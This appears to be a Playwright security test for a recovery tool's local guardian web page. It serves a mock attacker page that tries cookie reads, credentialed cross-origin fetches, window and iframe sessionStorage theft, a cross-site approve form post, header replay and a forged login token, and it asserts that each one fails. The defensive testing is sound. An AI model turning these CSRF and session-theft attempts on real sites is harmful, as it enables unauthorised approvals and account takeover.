/**
 * The guardian's page in real Chromium, attacked by another program on the friend's computer: it listens
 * on another 127.0.0.1 port (so it would receive any cookie of 127.0.0.1), has made a recovery request of
 * its own and knows its own code. The friend is logged in to the page. The attacker's page, opened in the
 * friend's own tab and in a new one, tries every navigation it can make: it reads its cookies, navigates
 * to itself, fetches the guardian's views with and without credentials, opens the page in a window and
 * frames it, posts the approve form across, and sends a forged login link. Then the program replays
 * everything it received. The request stays pending and the program never holds the session.
 * In-process guardians (real libp2p, real SQLite), a real `kith recover` in this process, Chromium. Skipped,
 * saying why, only where no Chromium is installed; KITH_REQUIRE_CHROMIUM=1 (.ci/run) fails instead.
 */
import { existsSync } from 'node:fs'
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loginLink } from '../../src/guardian/web/login.js'
import { kithIn, RecoverRun, recoverArgs } from '../helpers/cli.js'
import { backedUpVault, type LocalGuardian, localFleet } from '../helpers/local.js'
import { fileTempDir } from '../helpers/tmp.js'

const CHROMIUM = ['/usr/bin/chromium', '/usr/bin/chromium-browser'].find((p) => existsSync(p))
if (CHROMIUM === undefined && process.env['KITH_REQUIRE_CHROMIUM'] === '1')
  throw new Error('KITH_REQUIRE_CHROMIUM=1 but no chromium here (apt-get install chromium)')
if (CHROMIUM === undefined)
  console.warn('skipping the page attack in Chromium: no chromium here (apt-get install chromium)')

const fleet = localFleet()

/** What the attacker's page reports back, and every request the browser made to the attacker's port. */
interface Loot {
  readonly reports: Record<string, unknown>[]
  readonly requests: { path: string; headers: IncomingHttpHeaders; body: string }[]
}

/**
 * The attacker's program: a page (its own script, no CSP of ours) that tries everything against the
 * guardian at `target` for the request it made, then reports to /report; step 2 is the same page reached
 * by navigating to itself.
 */
function attackerPage(target: string, request: string, code: string): string {
  return `<!doctype html><meta charset="utf-8"><title>cute cats</title><body>
<form id="f" method="post" action="${target}/approve" target="sink">
  <input name="request" value="${request}"><input name="code" value="${code}"></form>
<iframe name="sink"></iframe>
<script>
const report = (what) => fetch('/report', { method: 'POST', body: JSON.stringify(what) })
const attempt = async (name, fn) => {
  try { await report({ name, result: String(await fn()) }) } catch (e) { await report({ name, error: String(e) }) }
}
;(async () => {
  const step = new URL(location.href).searchParams.get('step') ?? '1'
  await attempt('cookie', () => document.cookie)
  if (step === '1') {
    await attempt('view-with-credentials', async () => (await fetch('${target}/view/', { credentials: 'include' })).text())
    await attempt('view-no-cors', async () => (await fetch('${target}/view/', { mode: 'no-cors', credentials: 'include' })).type)
    await attempt('view-with-header', async () => (await fetch('${target}/view/', { headers: { 'x-kith-session': 'guess' } })).text())
    await attempt('approve-fetch', async () => (await fetch('${target}/approve', { method: 'POST', credentials: 'include', body: new URLSearchParams({ request: '${request}', code: '${code}' }) })).text())
    await attempt('approve-no-cors', async () => (await fetch('${target}/approve', { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ request: '${request}', code: '${code}' }) })).type)
    await attempt('window', async () => {
      const w = window.open('${target}/')
      await new Promise((r) => setTimeout(r, 1500))
      try { return w.sessionStorage.getItem('kith-session') } finally { w.close() }
    })
    await attempt('frame', async () => {
      const f = document.createElement('iframe')
      f.src = '${target}/'
      document.body.append(f)
      await new Promise((r) => f.addEventListener('load', r))
      return f.contentWindow.sessionStorage.getItem('kith-session')
    })
    await attempt('form-post', async () => {
      document.getElementById('f').submit()
      await new Promise((r) => setTimeout(r, 1000))
      return 'sent'
    })
    await report({ name: 'step1-done' })
    location.href = '/?step=2'
  } else {
    await report({ name: 'step2-done' })
  }
})()
</script>`
}

async function attacker(target: string, request: string, code: string): Promise<{ url: string; loot: Loot }> {
  const loot: Loot = { reports: [], requests: [] }
  const server: Server = createServer(async (req, res) => {
    let body = ''
    for await (const chunk of req) body += String(chunk)
    loot.requests.push({ path: req.url ?? '', headers: req.headers, body })
    if (req.url === '/report') {
      loot.reports.push(JSON.parse(body))
      res.end()
      return
    }
    res.writeHead(200, { 'content-type': 'text/html' })
    res.end(attackerPage(target, request, code))
  })
  servers.push(server)
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, loot }
}
const servers: Server[] = []

describe.skipIf(CHROMIUM === undefined)(
  'a program on another 127.0.0.1 port cannot approve, in Chromium',
  () => {
    let browser: Browser
    let tab: Page
    let g: LocalGuardian
    let base: string
    let r: RecoverRun
    let asked: { request: string; code: string }
    let session: string
    const state = async () =>
      JSON.parse(await kithIn('guardian', 'requests', '--all', '--json', '--data-dir', g.dir)).requests[0]
    const until = (loot: Loot, name: string) =>
      expect.poll(() => loot.reports.some((x) => x['name'] === name), { timeout: 30_000 }).toBe(true)

    beforeAll(async () => {
      browser = await chromium.launch({
        executablePath: CHROMIUM!,
        args: process.getuid?.() === 0 ? ['--no-sandbox'] : [],
      })
      const made = await backedUpVault(2, 2, 2, fleet, { web: true })
      g = made.gs[0]!
      base = g.guardian.pageUrl!
      // the attacker's own recovery: it knows the request and the code the friend would be read
      r = new RecoverRun(...recoverArgs(made.vault, made.gs, await fileTempDir()))
      asked = await r.codeFor(g.peerId)
      tab = await browser.newPage()
      await tab.goto((await loginLink(g.dir, Date.now())).link)
      await tab.locator(`[data-request="${asked.request}"] h3`).waitFor()
      session = String(await tab.evaluate("sessionStorage.getItem('kith-session') ?? ''"))
      expect(session).toMatch(/^[A-Za-z0-9_-]{43}$/)
    }, 120_000)

    afterAll(async () => {
      await browser?.close()
      await Promise.all(servers.map((s) => new Promise((res) => s.close(res))))
      r?.done.catch(() => undefined)
    })

    it('the login link left no token in the address bar, and no cookie is set', async () => {
      expect(tab.url()).toBe(`${base}/`)
      expect(await tab.context().cookies()).toEqual([])
    })

    for (const where of ['in the friend’s own tab', 'in a new tab'] as const)
      it(`the attacker's page ${where} gets nothing from any navigation or request it makes`, async () => {
        const evil = await attacker(base, asked.request, asked.code)
        const page = where === 'in a new tab' ? await browser.newPage() : tab
        await page.goto(evil.url)
        await until(evil.loot, 'step2-done')
        const results = Object.fromEntries(
          evil.loot.reports.map((x) => [x['name'], x['result'] ?? x['error'] ?? '']),
        )
        expect(results['cookie']).toBe('')
        // cross-origin reads fail, or are opaque; the window and the frame cannot be read
        expect(String(results['view-with-credentials'])).toMatch(/TypeError|Failed to fetch/)
        // (an opaque answer at best: Cross-Origin-Resource-Policy makes Chromium drop it)
        expect(String(results['view-no-cors'])).toMatch(/^opaque$|TypeError|Failed to fetch/)
        expect(String(results['view-with-header'])).toMatch(/TypeError|Failed to fetch/)
        expect(String(results['approve-fetch'])).toMatch(/TypeError|Failed to fetch/)
        expect(String(results['window'])).toMatch(/SecurityError|Blocked|null|cross-origin/i)
        expect(String(results['frame'])).toMatch(/SecurityError|Blocked|null|cross-origin|TypeError/i)
        // nothing the browser sent to the attacker's port carries the session
        for (const req of evil.loot.requests) {
          expect(JSON.stringify(req.headers)).not.toContain(session)
          expect(req.body).not.toContain(session)
          expect(req.headers['cookie']).toBeUndefined()
        }
        expect(await state()).toMatchObject({ request: asked.request, state: 'pending', wrongCodes: 0 })
        if (page !== tab) await page.close()
      })

    it('the program replays all it received, with its own request and code: refused, still pending', async () => {
      const evil = await attacker(base, asked.request, asked.code)
      const spare = await browser.newPage()
      await spare.goto(evil.url)
      await until(evil.loot, 'step2-done')
      await spare.close()
      const form = new URLSearchParams({ request: asked.request, code: asked.code }).toString()
      for (const req of evil.loot.requests) {
        const headers: Record<string, string> = { 'content-type': 'application/x-www-form-urlencoded' }
        for (const [k, v] of Object.entries(req.headers))
          if (typeof v === 'string' && !['host', 'content-length', 'connection'].includes(k)) headers[k] = v
        headers['x-kith-session'] = String(req.headers['cookie'] ?? '')
        const approve = await fetch(`${base}/approve`, { method: 'POST', headers, body: form })
        expect(approve.status).toBe(403)
        const read = await fetch(`${base}/view/`, { headers })
        expect([401, 403]).toContain(read.status)
      }
      expect(await state()).toMatchObject({ request: asked.request, state: 'pending', wrongCodes: 0 })
    })

    it("a forged login link logs nobody in, and the friend's own tab keeps working", async () => {
      const forged = await browser.newPage()
      await forged.goto(`${base}/login#token=${'A'.repeat(43)}`)
      await expect
        .poll(() => forged.locator('.flash.error').textContent())
        .toMatch(/used already, or is too old/)
      expect(await forged.evaluate("sessionStorage.getItem('kith-session')")).toBeNull()
      await forged.close()
      await tab.goto(`${base}/`)
      await expect
        .poll(() => tab.locator(`[data-request="${asked.request}"] h3`).textContent())
        .toMatch(/Someone is recovering/)
    })
  },
)
